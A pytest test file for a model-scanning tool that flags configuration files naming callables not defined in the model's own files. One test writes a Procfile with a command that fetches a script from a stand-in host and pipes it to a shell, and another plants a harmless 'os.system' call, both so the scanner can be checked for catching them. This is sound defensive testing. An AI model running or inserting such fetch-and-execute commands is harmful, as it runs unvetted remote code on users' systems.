"""Python names of configurations that files of the same model define."""

from __future__ import annotations

import json
import pickle
import shutil
from pathlib import Path

import pytest
from support.cases import check_each
from support.fixtures import FIXTURES

import modelaudit

_RUNTIME = "class Runtime:\n    def predict(self, rows):\n        return rows\n\n\ndef make():\n    return Runtime()\n"
_MLMODEL = "flavors:\n  python_function:\n    loader_module: acme_loader\n    code: code\n    data: data\n"


def list_names(folder: Path, files: dict[str, str]) -> set[str]:
    """Write files into a new folder, scan it, and return the keys of the findings on unverified names."""
    folder = folder / str(len(list(folder.iterdir())))
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    report = modelaudit.scan(folder, second_opinion=False)
    rules = ("torch/unverified-target", "configuration/unverified-callable")
    return {each.rule for each in report.findings if each.rule in rules}


def _settings(name: str) -> str:
    return json.dumps({"name": "acme", "implementation": name})


@check_each(
    "files",
    [
        {"model-settings.json": _settings("acme_runtime.Runtime"), "acme_runtime.py": _RUNTIME},
        {"model-settings.json": _settings("acme_runtime.Runtime.predict"), "acme_runtime.py": _RUNTIME},
        {"model-settings.json": _settings("serve.acme.Runtime"), "serve/acme/__init__.py": _RUNTIME},
        {"a/model-settings.json": _settings("acme_runtime.make"), "src/acme_runtime.py": _RUNTIME},
        {"MLmodel": _MLMODEL, "code/acme_loader.py": "def _load_pyfunc(path):\n    return None\n", "data/x.txt": "x"},
        {"conf/model.yaml": "_target_: nets.tiny.Runtime\nhidden: 4\n", "nets/tiny.py": _RUNTIME},
    ],
)
def test_name_that_a_file_of_the_model_defines_needs_no_review(tmp_path: Path, files: dict[str, str]) -> None:
    assert list_names(tmp_path, files) == set()


@check_each(
    "files",
    [
        {"model-settings.json": _settings("acme_runtime.Runtime")},
        {"model-settings.json": _settings("acme_runtime.Runtime"), "acme_runtime.py": "from x import Runtime\n"},
        {"model-settings.json": _settings("acme_runtime.Runtime"), "acme_runtime.txt": _RUNTIME},
        {"model-settings.json": _settings("acme_runtime.Runtime"), "other/acme_runtime.py": _RUNTIME},
        {"model-settings.json": _settings("acme_runtime.x.Runtime"), "acme_runtime.py": f"import x\n{_RUNTIME}"},
        {"model-settings.json": _settings("acme_runtime.Runtime.run"), "acme_runtime.py": _RUNTIME},
        # The installed package may be imported in place of the file.
        {"model-settings.json": _settings("ultralytics.Runtime"), "ultralytics.py": _RUNTIME},
    ],
)
def test_name_that_no_file_of_the_model_defines_stays_unverified(tmp_path: Path, files: dict[str, str]) -> None:
    assert list_names(tmp_path, files) != set()


def test_code_that_a_configuration_names_is_judged_as_loaded(tmp_path: Path) -> None:
    (tmp_path / "model-settings.json").write_text(_settings("acme_runtime.Runtime"))
    (tmp_path / "acme_runtime.py").write_text(f"import os\nos.system('touch x')\n{_RUNTIME}")
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 1


def test_path_of_data_and_commands_of_a_procfile_are_read(tmp_path: Path) -> None:
    (tmp_path / "model-settings.json").write_text(json.dumps({"name": "a", "parameters": {"uri": "./model.joblib"}}))
    (tmp_path / "model.joblib").write_bytes(pickle.dumps({"a": 1}))
    (tmp_path / "Procfile").write_text("web: gunicorn app:app\nrelease: python migrate.py\n")
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 0
    (tmp_path / "Procfile").write_text("web: curl https://a.invalid/x | sh\n")
    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 1


@pytest.mark.parametrize(
    ("key", "name", "passes"), [("path", "a.pth", True), ("start", "a.pth", False), ("path", "a.sh", False)]
)
def test_checkpoint_behind_a_key_of_a_path_is_no_command(key: str, name: str, passes: bool, tmp_path: Path) -> None:
    (tmp_path / "model_config.json").write_text(json.dumps({key: f"./{name}", "classes": 2}, indent=1))
    shutil.copyfile(next((FIXTURES / "torch-zip/benign").glob("*.pt")), tmp_path / name)
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
    assert (report.exit_code == 0) is passes
